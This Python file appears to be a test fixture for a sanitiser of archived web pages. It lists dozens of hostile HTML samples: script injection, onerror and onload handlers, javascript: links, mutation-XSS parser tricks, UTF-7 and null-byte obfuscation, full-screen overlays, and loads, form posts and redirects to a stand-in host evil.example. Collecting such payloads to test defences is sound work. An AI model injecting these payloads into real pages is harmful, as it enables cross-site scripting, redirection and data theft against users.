# ruff: noqa: E501  one trick, one line
"""Mark-up made to run, load, send, navigate, cover or pretend something in the frame of the archived page."""

import hashlib

SEAL = hashlib.sha256(b"another page").hexdigest()

HOSTILE = {
    "script": "<script>alert(1)</script><SCRIPT src=//evil.example/a.js></SCRIPT>",
    "event handlers": "<p onclick=alert(1) onmouseover='alert(1)'>x<img src=x onerror=alert(1)><body onload=alert(1)>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "form": "<form action=https://evil.example/><input name=a><button formaction=//evil.example>go</button></form>",
    "frames": "<iframe src=//evil.example srcdoc='<script>alert(1)</script>'></iframe><frameset><frame src=x></frameset>",
    "addresses of scripts": "<a href='javascript:alert(1)'>a</a><a href=' java\tscript:alert(1)'>b</a><a href='&#106avascript:1'>c</a>",
    "imported styles": "<style>@import '//evil.example/a.css'; body{background:url(//evil.example/b)}</style><link rel=stylesheet href=//evil.example>",
    "style attributes": "<p style=\"background:u\\72l(//evil.example);background-image:url('//evil.example/a;b')\">x<p style='width:expression(alert(1));behavior:url(x);-moz-binding:url(x)'>y",
    "covers": "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9;background:#fff;margin:-999px'>x</div>",
    "content": "<p style=\"content:'99';font-size:0;line-height:0;text-indent:-99em;display:none;opacity:0\">x</p>",
    "svg": "<svg onload=alert(1)><style><img src=x onerror=alert(1)></style><script>alert(1)</script><a xlink:href='javascript:1'>x</a></svg>",
    "math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'></table></math>",
    "math in select": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></mtext></math></form>",
    "base": "<base href=//evil.example target=_top>",
    "objects": "<object data=//evil.example></object><embed src=//evil.example><applet code=x></applet><param value=x>",
    "pictures": "<img src=//evil.example/a srcset='//evil.example/b 2x' alt='<b>x</b>'><picture><source srcset=//evil.example/c></picture><table background=//evil.example/d><tr><td background=//evil.example/e>1</table>",
    "media": "<video src=//evil.example poster=//evil.example></video><audio src=//evil.example></audio><track src=x>",
    "pings": "<a href=https://evil.example/ ping=//evil.example/p target=_top download>x</a><area href=//evil.example>",
    "spoofed marks": f"<a class=gk-mark id=c-0-1-2 href='#c-0-1-2' data-place=c-0-1-2 title=99>99</a><p id='{SEAL}c-0-1-2' class='{SEAL}gk-mark' name=c-0-1-2 data-place='{SEAL}c-0-1-2'>98</p>",
    "open textarea": "<p>vor<textarea><p>in",
    "open title": "<p>vor<title><p>in",
    "open comment": "<p>vor<!-- <p>in",
    "open plaintext": "<plaintext><script>alert(1)</script>",
    "xmp": "<xmp><script>alert(1)</script></xmp><listing><script>alert(1)</script></listing>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "noembed": "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed><noframes><p></noframes>",
    "template": "<template><script>alert(1)</script></template><slot name=x></slot>",
    "links in links": "<a href=//evil.example/1>one<a href=//evil.example/2>two<p><a href=x>three</a></a></a>",
    "wrapper": "</main></body></html><script>alert(1)</script></style></title><!--><img src=x onerror=alert(1)>-->",
    "escapes": "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
    "controls": "<scr\0ipt>alert(1)</scr\0ipt><img\x0bsrc=x\x0conerror=alert(1)><p/onclick=alert(1)//>",
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-<meta charset=utf-7>",
    "conditional comments": "<!--[if gte IE 4]><script>alert(1)</script><![endif]--><![CDATA[<script>alert(1)</script>]]><?php x ?>",
    "odd names": "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script><dialog open>x</dialog><marquee onstart=alert(1)>m</marquee><details ontoggle=alert(1) open>",
    "editing": "<p contenteditable autofocus tabindex=1 accesskey=x draggable=true>x</p><input autofocus onfocus=alert(1)>",
    "attributes": "<p lang='\"><script>alert(1)</script>' dir=\"'x\" align='left;x' width='9)' bgcolor='url(x)'>x<font color='expression(1)' size=99>y<td colspan=99999>",
}
